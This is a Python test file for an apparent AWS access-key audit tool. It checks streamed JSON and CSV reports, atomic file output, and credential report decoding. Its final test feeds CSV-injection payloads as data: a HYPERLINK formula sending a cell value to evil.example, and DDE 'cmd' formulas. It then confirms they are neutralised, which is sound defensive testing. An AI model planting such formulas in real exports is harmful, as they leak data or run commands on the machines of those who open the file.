"""JSON and CSV written while the keys stream in: complete, valid, counted, never half-written."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from keyturn.adapters.credential_report import decode_content_early
from keyturn.cli.output import emit_stream
from keyturn.domain.errors import BadInputError, ReportError
from keyturn.domain.model import AccessKey, AuditedKey, KeyStatus
from keyturn.domain.policy import PolicySettings, classify
from keyturn.reports.csv_report import write_csv
from keyturn.reports.json_report import write_json
from keyturn.reports.records import COLUMNS
from keyturn.services.audit import AuditStream

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
POLICY = PolicySettings()


def audited(count: int) -> Iterator[AuditedKey]:
    """`count` keys aged 0, 10, ... 50 days: the ones aged 30 and more are out of policy."""
    for index in range(count):
        key = AccessKey(
            account="111122223333",
            user=f"user-{index}",
            slot=1,
            status=KeyStatus.ACTIVE,
            created=NOW - timedelta(days=10 * (index % 6)),
            last_used=None,
        )
        yield classify(key, NOW, POLICY)


def stream_of(count: int) -> AuditStream:
    """A one-shot generator, as the service gives: a second pass would see nothing.

    Like the service's enrichment, it adds a warning while the keys are being read.
    """
    warnings: list[str] = []

    def keys() -> Iterator[AuditedKey]:
        yield from audited(count)
        warnings.append("found while streaming")

    return AuditStream(
        generated_at=NOW, policy=POLICY, source="credential-report", keys=keys(), warnings=warnings
    )


def test_streamed_json_is_one_valid_complete_document() -> None:
    out = io.StringIO()
    tally = write_json(stream_of(12), out)
    document = json.loads(out.getvalue())
    assert [key["user"] for key in document["keys"]] == [f"user-{i}" for i in range(12)]
    assert document["summary"]["keys"] == 12
    assert sum(document["summary"].values()) == 24  # the total plus one count per key
    assert document["summary"]["notify"] + document["summary"]["deactivate"] == 6
    assert tally.out_of_policy == 6
    # Warnings found during the stream still reach the document, after the keys.
    assert document["warnings"] == ["found while streaming"]
    assert list(document) == ["generated_at", "source", "policy", "keys", "summary", "warnings"]


def test_streamed_json_with_no_keys_is_valid() -> None:
    document = json.loads(_written(write_json, stream_of(0)))
    assert document["keys"] == []
    assert document["summary"]["keys"] == 0


def test_streamed_csv_has_a_header_and_one_row_per_key() -> None:
    out = io.StringIO()
    tally = write_csv(stream_of(7), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 7
    assert tuple(rows[0]) == COLUMNS
    assert rows[3]["finding"] == "notify"  # 30 days old
    assert rows[0]["key_id"] == ""  # None is written as an empty cell
    assert tally.total == 7
    assert tally.out_of_policy == sum(row["finding"] not in ("ok", "exempt") for row in rows)


def _written(writer: object, stream: AuditStream) -> str:
    out = io.StringIO()
    writer(stream, out)  # type: ignore[operator]
    return out.getvalue()


# -- emit_stream: atomic, whatever happens mid-way ------------------------------------------


def failing_render(out: io.TextIOBase) -> int:
    out.write('{"keys": [')
    raise ReportError("credential report line 5000: column arn is not an ARN")


def test_a_failure_mid_stream_leaves_no_file(tmp_path: Path) -> None:
    target = tmp_path / "report.json"
    target.write_text("previous report\n")
    with pytest.raises(ReportError):
        emit_stream(failing_render, target)  # type: ignore[arg-type]
    assert target.read_text() == "previous report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_a_failure_mid_stream_prints_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(ReportError):
        emit_stream(failing_render, None)  # type: ignore[arg-type]
    assert capsys.readouterr().out == ""


def test_a_complete_stream_lands_in_the_file_and_returns_the_render_result(
    tmp_path: Path,
) -> None:
    target = tmp_path / "report.json"
    tally = emit_stream(lambda out: write_json(stream_of(3), out), target)
    assert json.loads(target.read_text())["summary"]["keys"] == 3 == tally.total
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_a_complete_stream_goes_to_stdout(capsys: pytest.CaptureFixture[str]) -> None:
    emit_stream(lambda out: write_csv(stream_of(2), out), None)
    assert len(capsys.readouterr().out.splitlines()) == 3


def test_an_unwritable_output_is_bad_input(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match="does not exist"):
        emit_stream(lambda out: write_json(stream_of(1), out), tmp_path / "nope" / "r.json")


# -- the credential report's content, decoded before botocore's XML parser ------------------


def envelope(content: str) -> bytes:
    return (
        '<GetCredentialReportResponse xmlns="https://iam.amazonaws.com/doc/2010-05-08/">'
        f"<GetCredentialReportResult><Content>{content}</Content>"
        "<ReportFormat>text/csv</ReportFormat></GetCredentialReportResult>"
        "</GetCredentialReportResponse>"
    ).encode()


def test_content_is_decoded_and_cut_out_of_the_body() -> None:
    report = b"user,arn\nalice,arn:aws:iam::111122223333:user/alice\n"
    response = {"status_code": 200, "body": envelope(base64.b64encode(report).decode())}
    customized: dict[str, object] = {}
    decode_content_early(response, customized)
    assert customized == {"Content": report}
    assert response["body"] == envelope("")


@pytest.mark.parametrize(
    "response",
    [
        {"status_code": 200, "body": b"<GetCredentialReportResponse/>"},  # no Content
        {"status_code": 410, "body": envelope("dXNlcgo=")},  # an error: botocore's to read
        {"status_code": 200, "body": None},
    ],
)
def test_anything_unexpected_is_left_to_botocore(response: dict[str, object]) -> None:
    before = dict(response)
    customized: dict[str, object] = {}
    decode_content_early(response, customized)
    assert customized == {}
    assert response == before


@pytest.mark.parametrize(
    ("hostile", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "'=HYPERLINK"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),  # one row still: a bare CR would end it (see cell())
    ],
)
def test_csv_cells_a_spreadsheet_would_evaluate_are_text(hostile: str, written: str) -> None:
    """A user name and a Contact tag value are written by other principals (OWASP CSV
    injection): the cell starts with `'`, so a spreadsheet shows it instead of running it."""
    key = AccessKey(
        account="111122223333",
        user=hostile,
        slot=1,
        status=KeyStatus.ACTIVE,
        created=NOW - timedelta(days=40),
        last_used=None,
        contact=hostile,
    )
    stream = AuditStream(
        generated_at=NOW,
        policy=POLICY,
        source="credential-report",
        keys=iter([classify(key, NOW, POLICY)]),
        warnings=[],
    )
    out = io.StringIO()
    write_csv(stream, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["user"].startswith(written)
    assert row["contact"].startswith(written)
    assert row["user"].replace("\n", "\r") == "'" + hostile  # nothing else changed
    assert row["age_days"] == "40"  # numbers stay numbers
